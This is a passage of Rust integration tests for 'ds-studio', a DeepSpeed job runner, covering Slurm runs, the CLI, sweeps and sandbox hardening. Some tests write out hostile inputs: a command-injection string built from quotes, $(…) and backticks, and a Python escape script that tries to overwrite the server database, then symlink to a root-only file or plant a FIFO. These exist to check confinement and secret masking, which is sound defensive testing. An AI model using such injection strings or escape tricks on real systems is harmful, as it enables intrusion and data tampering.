        .wait_state(job.id, &[JobState::Lost], Duration::from_secs(20))
        .await;
    let why = end.message.unwrap();
    assert!(why.contains("`phoenix` no longer runs it"), "{why}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_server_restart_mid_run_loses_no_metric_point() {
    let _one = engine_slot(true).await;
    let mut studio = Studio::start(false).await;
    let _runner = studio.runner("steady");
    let t = studio.template(config(json!({}))).await;
    let job = studio.submit(t.id, 250, json!({})).await;
    studio
        .wait_metric(job.id, "Train/Samples/lr", Duration::from_secs(180))
        .await;
    // Stop the server while the job trains, keep it down a while, start it again.
    studio.server.take().unwrap().signal(libc::SIGTERM);
    tokio::time::sleep(Duration::from_secs(4)).await;
    studio.server = Some(spawn_server(&studio.data, studio.port, false));
    studio.wait_healthy().await;
    let end = studio
        .wait_state(
            job.id,
            &[JobState::Succeeded, JobState::Failed, JobState::Lost],
            Duration::from_secs(240),
        )
        .await;
    assert_eq!(end.state, JobState::Succeeded, "{end:?}");
    // Every CSV row DeepSpeed wrote is a stored metric point, and no sequence number is missing.
    let dir = studio.data.join(format!(
        "runner-jobs/job-{0}/work/monitor/ds-studio-job-{0}",
        job.id
    ));
    let series: Vec<MetricSeries> = studio.metrics(job.id).await;
    for (file, name) in [
        ("Train_Samples_lr.csv", "Train/Samples/lr"),
        ("Train_Samples_train_loss.csv", "Train/Samples/train_loss"),
    ] {
        let rows = csv_rows(&dir.join(file));
        let stored = series
            .iter()
            .find(|s| s.name == name)
            .map_or(0, |s| s.total);
        assert_eq!(stored as usize, rows, "{name}");
        assert_eq!(rows, 250);
    }
    let events = collect_events(&studio.client, job.id, None).await;
    let seqs: Vec<i64> = events
        .iter()
        .filter_map(|e| e.1.as_ref().map(|i| i.parse().unwrap()))
        .collect();
    assert_eq!(seqs, (1..=end.last_seq).collect::<Vec<_>>());
    let _ = studio.port;
}

/// Brings up the single-node Slurm cluster of `../shared/tools/slurm` (idempotent, seconds) and
/// returns its `SLURM_CONF`.
/// `../shared` beside the repository (or `DS_SHARED_DIR`): the Slurm tools.
fn shared_dir() -> PathBuf {
    std::env::var_os("DS_SHARED_DIR")
        .map(PathBuf::from)
        .unwrap_or_else(|| Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared"))
}

fn slurm_cluster() -> PathBuf {
    let shared = shared_dir();
    let script = shared.join("tools/slurm/setup-slurm.sh");
    let base = std::env::temp_dir().join("ds-studio-slurm");
    let out = Command::new("bash")
        .arg(&script)
        .env("SLURM_BASE", &base)
        .output()
        .unwrap_or_else(|e| panic!("{}: {e}", script.display()));
    assert!(
        out.status.success(),
        "the Slurm cluster did not start: {}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    base.join("etc/slurm.conf")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_slurm_backend_runs_the_same_20_step_journey() {
    let _one = engine_slot(true).await;
    let conf = slurm_cluster();
    let studio = Studio::start(false).await;
    // An entrypoint that reports what reached it, for the hostile-values job below.
    let scripts = common::scratch("slurm-scripts");
    std::fs::write(
        scripts.join("probe.py"),
        "import os, sys\n\
         if os.environ.get('RANK', '0') == '0':\n\
         \x20   print('probe-value:' + repr(os.environ.get('PROBE_VALUE')), flush=True)\n\
         \x20   print('probe-secret-ok:' + str(os.environ.get('HF_TOKEN') == 'hf_slurm_secret_value'), flush=True)\n\
         \x20   try:\n\
         \x20       open(os.environ['ESCAPE_TO'], 'w').write('x')\n\
         \x20       print('probe-escaped', flush=True)\n\
         \x20   except OSError as e:\n\
         \x20       print('probe-confined:' + type(e).__name__, flush=True)\n",
    )
    .unwrap();
    let _runner = Proc(
        studio
            .runner_command("slurm", "slurm-jobs")
            .args(["--backend", "slurm"])
            .arg("--allow-entrypoints")
            .arg(&scripts)
            .env("SLURM_CONF", &conf)
            .spawn()
            .expect("ds-studio runner starts"),
    );
    studio.wait_runner("slurm").await;
    let t = studio.template(config(json!({}))).await;
    let job = studio.submit(t.id, 20, json!({"runner": "slurm"})).await;
    let events = collect_events(&studio.client, job.id, None).await;
    let end: Job = serde_json::from_value(events.last().unwrap().2.clone()).unwrap();
    assert_eq!(end.state, JobState::Succeeded, "{end:?}");
    assert_eq!(end.runner.as_deref(), Some("slurm"));
    for name in ["Train/Samples/lr", "Train/Samples/train_loss"] {
        let steps: Vec<i64> = events
            .iter()
            .filter(|e| e.0 == "metric" && e.2["name"] == name)
            .map(|e| e.2["step"].as_i64().unwrap())
            .collect();
        assert_eq!(steps.len(), 20, "{name}: {steps:?}");
        assert!(steps.windows(2).all(|w| w[0] < w[1]));
    }
    let logs: Vec<String> = events
        .iter()
        .filter(|e| e.0 == "log")
        .map(|e| e.2["text"].as_str().unwrap().to_string())
        .collect();
    assert!(
        logs.iter().any(|l| l.starts_with("submitted Slurm job")),
        "{logs:?}"
    );
    assert!(logs.iter().any(|l| l.contains("COMPLETED")), "{logs:?}");
    assert!(logs.iter().any(|l| l.contains("ds-studio-result")));
    let job_dir = studio.data.join(format!("slurm-jobs/job-{}", job.id));
    let script = std::fs::read_to_string(job_dir.join("slurm.sh")).unwrap();
    assert!(script.contains("srun --kill-on-bad-exit=1"), "{script}");
    // Each node's launcher starts confined by the kernel, as a local job is.
    assert!(script.contains(" confine --write "), "{script}");
    assert!(
        logs.iter()
            .any(|l| l.contains("job writes are confined by the kernel (Landlock")),
        "{logs:?}"
    );

    // Hostile values reach the job verbatim and run nothing; a secret reaches it without being
    // written into the batch script, and its value is masked in the log.
    let pwned = studio.data.join("pwned");
    let hostile = format!(
        "x'; touch {p}; echo '$(touch {p}) `touch {p}` \" ; touch {p}",
        p = pwned.display()
    );
    let probe = studio
        .submit(
            t.id,
            5,
            json!({"runner": "slurm",
                   "workload": {"entrypoint": "probe.py"},
                   "env": {"PROBE_VALUE": hostile,
                           "ESCAPE_TO": studio.data.join("slurm-escape").display().to_string()},
                   "secret_env": {"HF_TOKEN": "hf_slurm_secret_value"}}),
        )
        .await;
    let events = collect_events(&studio.client, probe.id, None).await;
    let end: Job = serde_json::from_value(events.last().unwrap().2.clone()).unwrap();
    // Each rank's line is labelled with its node and rank; the text after the label is the
    // script's own.
    let logs: Vec<String> = events
        .iter()
        .filter(|e| e.0 == "log")
        .map(|e| e.2["text"].as_str().unwrap())
        .map(|t| {
            ds_studio_shared::launch::rank_label(t)
                .map_or(t, |l| l.2)
                .to_string()
        })
        .collect();
    assert_eq!(end.state, JobState::Succeeded, "{end:?} {logs:?}");
    let expected = format!("probe-value:'{}'", hostile.replace('\'', "\\'"));
    assert!(logs.contains(&expected), "{expected} not in {logs:?}");
    assert!(logs.iter().any(|l| l == "probe-secret-ok:True"), "{logs:?}");
    assert!(!pwned.exists(), "a value ran as a command");
    assert!(
        logs.iter().any(|l| l == "probe-confined:PermissionError"),
        "{logs:?}"
    );
    assert!(!studio.data.join("slurm-escape").exists());
    let script = std::fs::read_to_string(
        studio
            .data
            .join(format!("slurm-jobs/job-{}/slurm.sh", probe.id)),
    )
    .unwrap();
    assert!(!script.contains("hf_slurm_secret_value"), "{script}");
    assert!(!logs.iter().any(|l| l.contains("hf_slurm_secret_value")));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_cli_submits_watches_lists_and_reads_logs() {
    let _one = engine_slot(false).await;
    let studio = Studio::start(true).await;
    let t = studio.template(config(json!({}))).await;
    let cli = |args: &[&str]| {
        Command::new(env!("CARGO_BIN_EXE_ds-studio"))
            .args(args)
            .env("DS_STUDIO_SERVER", &studio.url)
            .env("DS_STUDIO_TOKEN", TOKEN)
            .env("DS_STUDIO_CREDENTIALS", studio.data.join("no-login.json"))
            .output()
            .unwrap()
    };
    let tid = t.id.to_string();
    // The server is another process: blocking this test's thread while the CLI runs is fine.
    let out = cli(&[
        "jobs",
        "submit",
        "--template",
        &tid,
        "--max-steps",
        "10",
        "--watch",
    ]);
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stdout}{stderr}");
    assert!(
        stdout.contains(": succeeded") && stdout.contains("preflight passed"),
        "{stdout}"
    );
    // It ends with one line that says how it went.
    let last = stdout.lines().last().unwrap_or_default();
    assert!(
        last.starts_with("job 1 succeeded in ") && last.contains("final loss"),
        "{stdout}"
    );
    // Not a terminal: progress lines, not redraws.
    assert!(
        stderr.contains("job 1  running") && !stderr.contains('\r'),
        "{stderr}"
    );
    assert!(stderr.contains("loss"), "{stderr}");

    // The same job as JSON lines, replayed from the start: its events, then its final state.
    let json_lines = cli(&["jobs", "watch", "1", "--format", "json"]);
    assert!(json_lines.status.success());
    let lines: Vec<Value> = String::from_utf8_lossy(&json_lines.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines[0]["event"], "log");
    assert_eq!(lines[0]["id"], "1");
    assert_eq!(lines.last().unwrap()["event"], "state");
    assert_eq!(lines.last().unwrap()["data"]["state"], "succeeded");
    let lr = lines
        .iter()
        .filter(|l| l["event"] == "metric" && l["data"]["name"] == "Train/Samples/lr")
        .count();
    assert_eq!(lr, 10);

    let list = cli(&["jobs", "list", "--format", "json"]);
    let page: Value = serde_json::from_slice(&list.stdout).unwrap();
    assert_eq!(page["total"], 1);
    let logs = cli(&["jobs", "logs", "1"]);
    assert!(String::from_utf8_lossy(&logs.stdout).contains("ds-studio-result"));
    // A job that does not exist: exit 1 with the server's message.
    let missing = cli(&["jobs", "show", "99"]);
    assert_eq!(missing.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&missing.stderr).contains("job 99 not found"));
    // Run again, followed as JSON: every line of stdout is one JSON object (no bare id line
    // before the events), and it ends with the new job's final state.
    let again = cli(&["jobs", "again", "1", "--watch", "--format", "json"]);
    assert!(again.status.success(), "{again:?}");
    let lines: Vec<Value> = String::from_utf8_lossy(&again.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}")))
        .collect();
    assert!(lines.iter().all(Value::is_object), "{lines:?}");
    let last = lines.last().expect("events");
    assert_eq!(last["event"], "state");
    assert_eq!(
        (last["data"]["id"].as_i64(), last["data"]["state"].as_str()),
        (Some(2), Some("succeeded"))
    );
    // A config with errors is refused with its diagnostics, nothing is queued.
    let bad = studio
        .template(config(json!({"train_batch_size": 7})))
        .await;
    let refused = cli(&["jobs", "submit", "--template", &bad.id.to_string()]);
    assert_eq!(refused.status.code(), Some(1));
    let err = String::from_utf8_lossy(&refused.stderr);
    assert!(
        err.contains("batch") && err.contains("not submitted"),
        "{err}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn two_ranks_run_through_deepspeeds_launcher() {
    let _one = engine_slot(true).await;
    let studio = Studio::start(true).await;
    // 16 = micro 4 × accumulation 2 × 2 ranks.
    let t = studio
        .template(config(json!({"train_batch_size": 16})))
        .await;
    let job = studio.submit(t.id, 10, json!({"gpus": 2})).await;
    let end = studio
        .wait_state(
            job.id,
            &[JobState::Succeeded, JobState::Failed],
            Duration::from_secs(240),
        )
        .await;
    assert_eq!(end.state, JobState::Succeeded, "{end:?}");
    let logs: Vec<LogLine> = studio
        .client
        .fetch(ep::JobLogs::url([&job.id]))
        .await
        .unwrap();
    assert!(
        logs.iter().any(|l| l.text.starts_with("launch:")
            && l.text.contains("deepspeed.launcher.runner --num_gpus 2")),
        "{logs:?}"
    );
    assert!(
        logs.iter().any(|l| l.text.contains("world=2")),
        "the workload saw two ranks"
    );
    let series: Vec<MetricSeries> = studio.metrics(job.id).await;
    let lr = series
        .iter()
        .find(|s| s.name == "Train/Samples/lr")
        .unwrap();
    // Only rank 0 writes the monitor: one point per step, 16 samples per step.
    assert_eq!(lr.total, 10);
    assert_eq!(lr.points[0].0, 16);
}

/// A config as LLaMA-Factory, axolotl or trl users keep it: `"auto"` wherever HF fills a value.
/// (The optimizer's betas and eps are plain numbers: Accelerate alone cannot fill them.)
fn hf_config() -> Value {
    json!({
        "train_batch_size": "auto",
        "train_micro_batch_size_per_gpu": "auto",
        "gradient_accumulation_steps": "auto",
        "gradient_clipping": "auto",
        "bf16": {"enabled": "auto"},
        "optimizer": {"type": "AdamW", "params": {"lr": "auto", "weight_decay": "auto", "torch_adam": true}},
        "scheduler": {"type": "WarmupLR", "params": {"warmup_min_lr": "auto", "warmup_max_lr": "auto", "warmup_num_steps": "auto"}},
        "zero_optimization": {"stage": 2, "reduce_bucket_size": "auto"}
    })
}

/// A template saved for an HF launcher runs under it: the job is accepted (the `"auto"` values
/// are the launcher's to fill), runs the built-in workload through `torchrun` + the Trainer or
/// `accelerate launch`, streams its loss, and stores the dict the launcher handed to DeepSpeed
/// beside what the validator predicted it would fill.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hf_trainer_and_accelerate_templates_run_under_their_launchers() {
    let _one = engine_slot(false).await;
    let studio = Studio::start(true).await;
    for launcher in ["hf-trainer", "accelerate"] {
        let t: Template = studio
            .client
            .call(
                ep::CreateTemplate::url([]),
                &serde_json::from_value(json!({
                    "name": format!("hf-{launcher}"),
                    "config": hf_config(),
                    "context": {"launcher": launcher, "trainer": {
                        "per_device_train_batch_size": 4, "gradient_accumulation_steps": 2,
                        "learning_rate": 0.001, "bf16": true}}
                }))
                .unwrap(),
            )
            .await
            .unwrap();
        let job = studio.submit(t.id, 6, json!({})).await;
        assert_eq!(job.facts.launcher, launcher);
        assert_eq!(job.facts.micro_batch, Some(4), "{:?}", job.facts);
        assert_eq!(job.facts.precision, "bf16");
        let filled = |path: &str| job.filled.iter().find(|f| f.path == path).cloned();
        let mb = filled("train_micro_batch_size_per_gpu").expect("micro batch filled");
        assert_eq!(mb.value, json!(4), "{mb:?}");
        assert!(!mb.from.is_empty(), "{mb:?}");
        assert_eq!(filled("optimizer.params.lr").unwrap().value, json!(0.001));
        // The runs table filters on the launcher.
        let page: ds_studio_shared::api::Page<Job> = studio
            .client
            .fetch(ep::ListJobs::url([]).query("launcher", launcher))
            .await
            .unwrap();
        assert_eq!(
            page.items.iter().map(|j| j.id).collect::<Vec<_>>(),
            vec![job.id]
        );

        let events = collect_events(&studio.client, job.id, None).await;
        let end: Job = serde_json::from_value(events.last().unwrap().2.clone()).unwrap();
        let logs: Vec<LogLine> = studio
            .client
            .fetch(ep::JobLogs::url([&job.id]).query("limit", 10000))
            .await
            .unwrap();
        let tail: Vec<&str> = logs
            .iter()
            .rev()
            .take(30)
            .map(|l| l.text.as_str())
            .collect();
        assert_eq!(
            end.state,
            JobState::Succeeded,
            "{launcher}: {end:?}\n{tail:#?}"
        );
        let launch = logs
            .iter()
            .find(|l| l.stream == "runner" && l.text.starts_with("launch: "))
            .expect("the launch line");
        let how = if launcher == "hf-trainer" {
            "-m torch.distributed.run"
        } else {
            "-m accelerate.commands.launch"
        };
        assert!(launch.text.contains(how), "{}", launch.text);
        let pf = end.preflight.as_ref().unwrap();
        assert_eq!(pf.transformers_version.as_deref(), Some("5.23.0"), "{pf:?}");
        assert_eq!(pf.accelerate_version.as_deref(), Some("1.15.0"));
        // What DeepSpeed received: every "auto" filled, as predicted.
        let handed = end
            .handed_config
            .as_ref()
            .expect("the handed dict is stored");
        assert_eq!(
            handed["train_micro_batch_size_per_gpu"],
            json!(4),
            "{handed}"
        );
        assert_eq!(handed["gradient_accumulation_steps"], json!(2));
        assert_eq!(handed["train_batch_size"], json!(8));
        assert_eq!(handed["bf16"]["enabled"], json!(true));
        assert_eq!(handed["optimizer"]["params"]["lr"], json!(0.001));
        // hidden_size² of the tiny model (d 64), from the model's config.
        assert_eq!(
            handed["zero_optimization"]["reduce_bucket_size"],
            json!(4096)
        );
        for f in &end.filled {
            assert_eq!(
                f.received(handed),
                Some(&f.value),
                "{launcher}: {} predicted {} (from {})",
                f.path,
                f.value,
                f.from
            );
        }
        let losses = events
            .iter()
            .filter(|e| e.0 == "metric" && e.2["name"] == "Train/Samples/train_loss")
            .count();
        assert_eq!(losses, 6, "{launcher}: one loss per optimizer step");
        let series = studio.metrics(job.id).await;
        assert!(
            series.iter().any(|s| s.name == "result/samples_per_sec"),
            "{launcher}: the result line was read"
        );
    }
}

/// `setup-multinode.sh`: a real two-node Slurm cluster, each node its own network namespace and
/// address. A lost node is noticed after `SlurmdTimeout` seconds: 10 here (clusters often keep
/// Slurm's 300).
fn multinode_cluster() -> PathBuf {
    let shared = shared_dir();
    let script = shared.join("tools/slurm/setup-multinode.sh");
    // One such cluster per machine (its addresses and ports are fixed): the script's own place.
    let base = std::env::var_os("MN_BASE")
        .map(PathBuf::from)
        .unwrap_or_else(|| PathBuf::from("/tmp/mn-slurm/cluster"));
    let out = Command::new("bash")
        .arg(&script)
        .env("MN_BASE", &base)
        .output()
        .unwrap_or_else(|e| panic!("{}: {e}", script.display()));
    assert!(
        out.status.success(),
        "the two-node Slurm cluster did not start: {}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    let conf = base.join("etc/slurm.conf");
    let text = std::fs::read_to_string(&conf).unwrap();
    if !text.contains("SlurmdTimeout=") {
        std::fs::write(&conf, format!("{text}SlurmdTimeout=10\n")).unwrap();
        let r = Command::new("scontrol")
            .arg("reconfigure")
            .env("SLURM_CONF", &conf)
            .output()
            .unwrap();
        assert!(r.status.success(), "{r:?}");
    }
    conf
}

/// Log lines of a job with their text.
async fn log_texts(studio: &Studio, job: i64) -> Vec<String> {
    let logs: Vec<LogLine> = studio
        .client
        .fetch(ep::JobLogs::url([&job]).query("limit", 10000))
        .await
        .unwrap();
    logs.into_iter().map(|l| l.text).collect()
}

/// Waits until both nodes' ranks have printed (the job is training on both).
async fn wait_both_ranks(studio: &Studio, job: i64) {
    let deadline = Instant::now() + Duration::from_secs(120);
    loop {
        let logs = log_texts(studio, job).await;
        let rank = |r: u32| {
            logs.iter()
                .any(|l| ds_studio_shared::launch::rank_label(l).is_some_and(|x| x.1 == r))
        };
        if rank(0) && rank(1) {
            return;
        }
        assert!(
            Instant::now() < deadline,
            "both ranks never printed: {logs:#?}"
        );
        tokio::time::sleep(Duration::from_millis(500)).await;
    }
}

/// Two nodes through the Slurm runner: the plain launcher and the HF Trainer train across both
/// (every rank's lines labelled with its node); cancel ends the processes on both; a node lost
/// mid-job fails the job, which names it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn two_node_jobs_run_cancel_and_name_a_lost_node() {
    let _one = engine_slot(true).await;
    let conf = multinode_cluster();
    let base = conf.parent().unwrap().parent().unwrap().to_path_buf();
    let studio = Studio::start(false).await;
    let _runner = Proc(
        studio
            .runner_command("cluster", "mn-jobs")
            .args(["--backend", "slurm"])
            .env("SLURM_CONF", &conf)
            .spawn()
            .expect("ds-studio runner starts"),
    );
    studio.wait_runner("cluster").await;
    // gloo across the namespaces' bridge.
    let two_nodes = json!({"runner": "cluster", "nodes": 2, "gpus": 1,
                           "env": {"GLOO_SOCKET_IFNAME": "eth0"}});

    // The plain launcher: world size 2 (8 = 4 × 1 × 2), the loss, lines from both nodes.
    let t = studio
        .template(config(json!({"gradient_accumulation_steps": 1})))
        .await;
    let job = studio.submit(t.id, 6, two_nodes.clone()).await;
    let events = collect_events(&studio.client, job.id, None).await;
    let end: Job = serde_json::from_value(events.last().unwrap().2.clone()).unwrap();
    let logs = log_texts(&studio, job.id).await;
    assert_eq!(end.state, JobState::Succeeded, "{end:?}\n{logs:#?}");
    let labelled: Vec<(String, u32)> = logs
        .iter()
        .filter_map(|l| ds_studio_shared::launch::rank_label(l).map(|x| (x.0.to_string(), x.1)))
        .collect();
    assert!(labelled.contains(&("n1".into(), 0)), "{logs:#?}");
    assert!(labelled.contains(&("n2".into(), 1)), "{logs:#?}");
    assert!(
        logs.iter().any(|l| l.contains("world=2")),
        "the workload trained at world size 2: {logs:#?}"
    );
    let losses = events
        .iter()
        .filter(|e| e.0 == "metric" && e.2["name"] == "Train/Samples/train_loss")
        .count();
    assert_eq!(losses, 6);

    // The HF Trainer across two nodes: torchrun on each, the Trainer filling "auto".
    let hf: Template = studio
        .client
        .call(
            ep::CreateTemplate::url([]),
            &serde_json::from_value(json!({
                "name": "hf-two-nodes",
                "config": hf_config(),
                "context": {"launcher": "hf-trainer", "trainer": {
                    "per_device_train_batch_size": 4, "gradient_accumulation_steps": 2,
                    "learning_rate": 0.001, "bf16": true}}
            }))
            .unwrap(),
        )
        .await
        .unwrap();
    let job = studio.submit(hf.id, 4, two_nodes.clone()).await;
    let events = collect_events(&studio.client, job.id, None).await;
    let end: Job = serde_json::from_value(events.last().unwrap().2.clone()).unwrap();
    let logs = log_texts(&studio, job.id).await;
    assert_eq!(end.state, JobState::Succeeded, "{end:?}\n{logs:#?}");
    let handed = end.handed_config.as_ref().expect("the handed dict");
    assert_eq!(
        handed["train_batch_size"],
        json!(16),
        "4 × 2 × 2 ranks: {handed}"
    );
    assert!(
        logs.iter().any(|l| l.starts_with("[n2 rank 1] ")),
        "{logs:#?}"
    );

    // Cancel: the processes end on both nodes.
    let long = studio.submit(t.id, 1_000_000, two_nodes.clone()).await;
    wait_both_ranks(&studio, long.id).await;
    let job_dir = studio.data.join(format!("mn-jobs/job-{}", long.id));
    let needle = job_dir.display().to_string();
    assert!(!processes_mentioning(&needle).is_empty());
    let _: Job = studio
        .client
        .fetch(ep::CancelJob::url([&long.id]))
        .await
        .unwrap();
    let events = collect_events(&studio.client, long.id, None).await;
    let end: Job = serde_json::from_value(events.last().unwrap().2.clone()).unwrap();
    assert_eq!(end.state, JobState::Cancelled, "{end:?}");
    let deadline = Instant::now() + Duration::from_secs(30);
    while !processes_mentioning(&needle).is_empty() {
        assert!(
            Instant::now() < deadline,
            "left behind: {:?}",
            processes_mentioning(&needle)
        );
        tokio::time::sleep(Duration::from_millis(300)).await;
    }

    // A node lost mid-job (its slurmd and every process in its namespace killed, as when a
    // machine dies): the job fails and names the node.
    let lost = studio.submit(t.id, 1_000_000, two_nodes).await;
    wait_both_ranks(&studio, lost.id).await;
    let pids = Command::new("ip")
        .args(["netns", "pids", "mn-n2"])
        .output()
        .unwrap();
    let pids = String::from_utf8_lossy(&pids.stdout).to_string();
    assert!(!pids.trim().is_empty(), "no process in n2's namespace");
    for pid in pids.split_whitespace() {
        let _ = Command::new("kill").args(["-9", pid]).status();
    }
    let events = collect_events(&studio.client, lost.id, None).await;
    let end: Job = serde_json::from_value(events.last().unwrap().2.clone()).unwrap();
    let message = end.message.clone().unwrap_or_default();
    assert_eq!(end.state, JobState::Failed, "{end:?}");
    assert!(
        message.contains("node n2 was lost mid-job"),
        "the message names the node: {message}"
    );
    // The cluster is whole again for whoever comes next.
    let _ = std::fs::remove_file(base.join("run/slurmd-n2.pid"));
    multinode_cluster();
}

/// `ds-studio sweep run` over a tiny grid on the local runner: the points that fit run on the
/// real engine, the one that cannot fit the host's memory is pruned before anything runs, the
/// fastest is the best and is saved as a new version; a second sweep is cancelled.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_sweep_runs_its_points_on_the_engine_and_finds_the_best() {
    let _one = engine_slot(false).await;
    let studio = Studio::start(true).await;
    let mut base = config(json!({}));
    base.as_object_mut().unwrap().remove("train_batch_size");
    let t = studio.template(base).await;
    let tid = t.id.to_string();
    let cli = |args: &[&str]| {
        Command::new(env!("CARGO_BIN_EXE_ds-studio"))
            .args(args)
            .env("DS_STUDIO_SERVER", &studio.url)
            .env("DS_STUDIO_TOKEN", TOKEN)
            .env("DS_STUDIO_CREDENTIALS", studio.data.join("no-login.json"))
            .output()
            .unwrap()
    };
    // The local runner reports its host's memory once it has registered.
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        let runners: Vec<ds_studio_shared::api::Runner> =
            studio.client.fetch(ep::ListRunners::url([])).await.unwrap();
        if runners.iter().any(|r| r.online && r.devices.is_some()) {
            break;
        }
        assert!(
            Instant::now() < deadline,
            "no runner came online: {runners:?}"
        );
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    let grid = [
        "--grid",
        "train_micro_batch_size_per_gpu=2,4,200000",
        "--grid",
        "zero_optimization.stage=0,2",
    ];
    let mut args = vec!["sweep", "run", "--template", &tid, "--size", "tiny"];
    args.extend(grid);
    args.extend(["--max-steps", "3", "--watch", "--format", "json"]);
    let out = cli(&args);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{stdout}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let result: Value = serde_json::from_str(stdout.trim()).expect("one JSON object");
    assert_eq!(result["state"], "finished", "{result}");
    let points = result["points"].as_array().unwrap();
    assert_eq!(points.len(), 6);
    let mut best_sps = 0.0f64;
    for p in points {
        if p["values"]["train_micro_batch_size_per_gpu"] == 200000 {
            assert_eq!(p["state"], "pruned", "{p}");
            assert!(
                p["reason"].as_str().unwrap().starts_with("does not fit"),
                "{p}"
            );
            assert!(p["job"].is_null());
        } else {
            assert_eq!(p["state"], "succeeded", "{p}");
            let sps = p["samples_per_sec"]
                .as_f64()
                .expect("a measured throughput");
            assert!(sps > 0.0, "{p}");
            best_sps = best_sps.max(sps);
        }
    }
    assert_eq!(result["best"]["samples_per_sec"].as_f64(), Some(best_sps));
    assert_eq!(result["ranking"].as_array().unwrap().len(), 4);
    let id = result["id"].as_i64().unwrap().to_string();
    // The best as a new version of the template.
    let saved = cli(&["sweep", "save-best", &id]);
    let said = String::from_utf8_lossy(&saved.stdout);
    assert!(saved.status.success(), "{said}");
    assert!(
        said.starts_with(&format!(
            "saved as version 2 of template {tid}: sweep {id}'s best:"
        )),
        "{said}"
    );

    // A second sweep, not followed: the plan as a table, then cancelled.
    let mut args = vec!["sweep", "run", "--template", &tid, "--version", "1"];
    args.extend(grid);
    args.extend(["--max-steps", "50"]);
    let out = cli(&args);
    let table = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{table}");
    assert!(
        table.contains("4 of 6 points run as jobs") && table.contains("ds-studio sweep show"),
        "{table}"
    );
    let second = table
        .split_whitespace()
        .nth(1)
        .unwrap()
        .trim_end_matches(':')
        .to_string();
    let out = cli(&["sweep", "cancel", &second, "--format", "json"]);
    assert!(out.status.success(), "{out:?}");
    let cancelled: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(cancelled["state"], "cancelled");
    // Its jobs end (a running one is stopped by its runner).
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        let s: Value = studio
            .client
            .call_json(ep::GetSweep::url([&second]), &NoBody)
            .await
            .unwrap();
        let open = s["points"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|p| p["state"] == "queued" || p["state"] == "running")
            .count();
        if open == 0 {
            break;
        }
        assert!(Instant::now() < deadline, "points still open: {s}");
        tokio::time::sleep(Duration::from_millis(300)).await;
    }
}

/// Hardening III, against the real server and runner as README starts them (SQLite, the local
/// runner, the engine's Python): a job's processes cannot write outside their directory, the
/// server's database and the runner's event spool included (the kernel refuses, Landlock); a
/// job that swaps the file its launcher hands back for a link to a file it could not read, or
/// for a FIFO, gets nothing reported and does not hang the server.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_job_cannot_write_outside_its_directory_nor_make_the_runner_read_through_a_link() {
    let _one = engine_slot(false).await;
    assert!(
        ds_studio_runner::jail::landlock_abi() > 0,
        "this test needs Landlock (Linux 5.13+, enabled at boot): {}",
        ds_studio_runner::jail::describe(0)
    );
    let scripts = common::scratch("escape-scripts");
    std::fs::write(
        scripts.join("escape.py"),
        r#"import os, sys
targets = os.environ['ESCAPE_TARGETS'].split(':')
for t in targets:
    try:
        with open(t, 'w') as f:
            f.write('{"pwned": true}')
        print('escape-wrote:' + t)
    except OSError as e:
        print('escape-denied:' + t + ':' + type(e).__name__)
with open('inside.txt', 'w') as f:
    f.write('ok')
print('escape-inside-ok')
handed = os.environ.get('DS_STUDIO_HANDED', 'handed_config.json')
secret = os.environ.get('ESCAPE_LINK')
if secret:
    os.symlink(secret, handed)
else:
    os.mkfifo(handed)
print('escape-swapped')
"#,
    )
    .unwrap();
    // A file only root may read, the way the review used /etc/shadow.
    let root_only = scripts.join("root-only.txt");
    std::fs::write(&root_only, "{\"root\": \"only\"}").unwrap();
    std::fs::set_permissions(
        &root_only,
        std::os::unix::fs::PermissionsExt::from_mode(0o600),
    )
    .unwrap();
    let studio = Studio::start_with(
        true,
        &["--allow-entrypoints".into(), scripts.display().to_string()],
    )
    .await;
    let db = std::fs::read_dir(&studio.data)
        .unwrap()
        .filter_map(|e| e.ok().map(|e| e.path()))
        .find(|p| p.extension().is_some_and(|x| x == "db"))
        .expect("the studio's SQLite database");
    let db_before = std::fs::read(&db).unwrap();
    let outside = studio.data.join("outside.txt");
    std::fs::write(&outside, "intact").unwrap();
    let t: Template = studio
        .client
        .call(
            ep::CreateTemplate::url([]),
            &serde_json::from_value(json!({
                "name": "escape",
                "config": hf_config(),
                "context": {"launcher": "hf-trainer", "trainer": {"per_device_train_batch_size": 4}}
            }))
            .unwrap(),
        )
        .await
        .unwrap();
    for link in [Some(root_only.display().to_string()), None] {
        let mut env = serde_json::Map::new();
        env.insert(
            "ESCAPE_TARGETS".into(),
            json!(format!(
                "{}:{}:../events.jsonl:../ds_config.json",
                db.display(),
                outside.display()
            )),
        );
        if let Some(l) = &link {
            env.insert("ESCAPE_LINK".into(), json!(l));
        }
        let job: Job = studio
            .client
            .call(
                ep::SubmitJob::url([]),
                &serde_json::from_value(json!({
                    "template_id": t.id, "gpus": 1, "max_steps": 2, "env": env,
                    "workload": {"builtin": null, "entrypoint": "escape.py"}
                }))
                .unwrap(),
            )
            .await
            .unwrap();
        let end = studio
            .wait_state(
                job.id,
                &[JobState::Failed, JobState::Succeeded],
                Duration::from_secs(240),
            )
